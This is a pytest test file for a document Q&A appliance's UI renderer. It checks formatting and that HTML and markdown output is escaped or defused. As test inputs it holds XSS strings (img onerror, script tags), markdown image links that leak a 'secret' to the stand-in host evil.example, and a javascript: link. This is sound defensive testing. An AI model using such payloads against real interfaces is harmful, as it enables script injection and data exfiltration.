"""Text and HTML of results: exact lines, and nothing of a document that a browser would act on."""

import re

import pytest

from appliance.service import Answer, DocumentEntry, DocumentSummary, IngestProgress, Source
from ui import render

NASTY = "<img src=x onerror=alert(1)>\n\n<script>alert(2)</script> \"quoted\" & 'more'"
SOURCE = Source("handbook.pdf", 3, 10, 90, "Leave is 28 days.\n\nAsk the lead.", 0.0328)


def answer(**changes: object) -> Answer:
    values: dict[str, object] = {
        "question": "How many days?",
        "answer": "28 days",
        "sources": (SOURCE,),
        "strategy": "reuse",
        "tokens": {"prompt": 1690, "reused": 1612, "computed": 78, "generated": 9},
        "timing": {"retrieve": 12.4, "load": 9.1, "place": 4.0, "compute": 51.2, "ttft": 78.0, "total": 1420.0},
        "tiers": {"gpu": 0, "pinned": 1, "pageable": 1, "disk": 4, "computed": 0},
        "warnings": (),
    }
    return Answer(**{**values, **changes})  # type: ignore[arg-type]


def test_timing_line() -> None:
    assert render.timing_line(answer()) == (
        "first token 0.08 s (retrieve 12 ms, load 9, place 4, compute 51) · 1,612 of 1,690 tokens reused"
        " · 2 chunks from memory · 4 chunks from disk"
    )


def test_timing_line_tells_what_was_reread() -> None:
    tokens = {"prompt": 1690, "reused": 1400, "computed": 290, "recomputed": 240, "generated": 9}
    assert "1,400 of 1,690 tokens reused, 240 reread · " in render.timing_line(answer(tokens=tokens))


def test_timing_line_without_steps() -> None:
    assert render.timing_line(answer(timing={}, tokens={}, tiers={"computed": 1})) == "1 chunk computed now"


def test_facts_carry_warnings_escaped() -> None:
    told = render.facts_html(answer(warnings=("1 block damaged <b>",)))
    assert "1 block damaged &lt;b&gt;" in told
    assert "whole answer 1.4 s" in told


def test_sources_are_numbered_best_first() -> None:
    told = render.sources_html([SOURCE, Source("lease.txt", None, 0, 5, "word " * 100, 0.016)])
    assert re.findall(r'class="number">(\d)<', told) == ["1", "2"]
    assert told.index("handbook.pdf") < told.index("lease.txt")
    assert "page 3" in told
    assert told.count("page ") == 1
    assert told.count("<details>") == 1
    assert "score 0.033" in told


def test_sources_line_names_document_and_page() -> None:
    assert render.sources_line([SOURCE]) == r"Sources: 1 handbook.pdf, page 3"
    other = Source("lease.txt", None, 0, 1, "", 0.1)
    assert render.sources_line([SOURCE, other, SOURCE]) == "Sources: 1, 3 handbook.pdf, page 3 · 2 lease.txt"
    assert render.sources_line([Source("a_[x](y)", None, 0, 1, "", 0.1)]) == r"Sources: 1 a\_\[x\]\(y\)"


def test_html_of_document_text_is_one_escaped_line() -> None:
    nasty = Source(NASTY, 1, 0, 1, NASTY * 9, 0.5)
    document = DocumentSummary("d", NASTY, "/p", NASTY, NASTY, 1, 2, 1, 0, 0)
    entry = DocumentEntry("/" + NASTY, NASTY, 1, NASTY)
    progress = IngestProgress(NASTY, NASTY, 0, 1, 0, 1, 0.0, None)
    everything = (
        render.sources_html([nasty])
        + render.document_html(document)
        + render.entries_html([entry], {})
        + render.progress_html(progress)
        + render.facts_html(answer(strategy=NASTY, warnings=(NASTY,)))
    )
    assert "\n" not in everything
    assert "<img" not in everything
    assert "<script" not in everything
    assert set(re.findall(r"<([a-z]+)", everything)) <= {"div", "span", "p", "b", "ul", "li", "details", "summary"}


@pytest.mark.parametrize(
    "text",
    [
        "<img src=http://evil.example/?q=secret>",
        "![x](http://evil.example/?q=secret)",
        "![x][y]\n\n[y]: http://evil.example",
        "[click](javascript:alert(1))",
        "</div><!-- <?xml",
        "```mermaid\ngraph TD\n```",
        "~~~ Mermaid\nx\n~~~",
    ],
)
def test_defused_text_has_no_active_markdown(text: str) -> None:
    told = render.defuse(text)
    assert told.replace("\u2060", "") == text
    assert not re.search(r"<[A-Za-z/!?]|!\[|\][(\[:]|(```|~~~)\s*mermaid", told, re.IGNORECASE)


def test_defuse_leaves_ordinary_text_alone() -> None:
    plain = "**28 days**\n\n1. a < b and 3 > 2\n2. `code` [sic], see https://example.org\n\n```python\nx = [1]\n```"
    assert render.defuse(plain) == plain


@pytest.mark.parametrize(
    ("size_bytes", "told"),
    [(0, "0 B"), (999, "999 B"), (3_400_000, "3.4 MB"), (345_000_000, "345 MB"), (2e12, "2.0 TB")],
)
def test_size(size_bytes: int, told: str) -> None:
    assert render.size(size_bytes) == told


@pytest.mark.parametrize(
    ("seconds", "told"), [(0.078, "0.08 s"), (1.42, "1.4 s"), (42, "42 s"), (600, "10 min"), (9000, "2.5 h")]
)
def test_duration(seconds: float, told: str) -> None:
    assert render.duration(seconds) == told


@pytest.mark.parametrize(("done", "width"), [(0, "w0"), (1, "w30"), (3, "w100")])
def test_progress_bar(done: int, width: str) -> None:
    told = render.progress_html(IngestProgress("kv", "a.txt", 0, 2, done, 3, 2.5, 75.0))
    assert f'class="fill {width}"' in told
    assert "2.5 per second" in told
    assert "75 s left" in told


def test_document_state_counts_what_is_prepared() -> None:
    half = DocumentSummary("d", "t", "/p", "default", "pdf", 3, 12, 8, 1, 1)
    assert render.document_state(half) == "searchable · 8 of 12 prepared"
    assert "3 pages" in render.document_html(half)


def test_a_failure_does_not_say_the_name_twice() -> None:
    entry = DocumentEntry("/u/1/n.pdf", "failed", 0, "n.pdf is encrypted: remove the password and ingest it again")
    assert render.entries_html([entry], {"/u/1/n.pdf": "n.pdf"}).count("n.pdf") == 1


def test_failures_come_first_and_many_successes_are_folded() -> None:
    entries = [DocumentEntry(f"/u/{i}.txt", "ready", 1, None) for i in range(9)]
    told = render.entries_html([*entries, DocumentEntry("/u/bad.pdf", "failed", 0, "bad.pdf is empty: fill it")], {})
    assert told.index("bad.pdf") < told.index("<details") < told.index("0.txt")
    assert "9 files without trouble" in told
    assert "<details" not in render.entries_html(entries[:3], {})
    assert render.entries_html([], {}) == ""
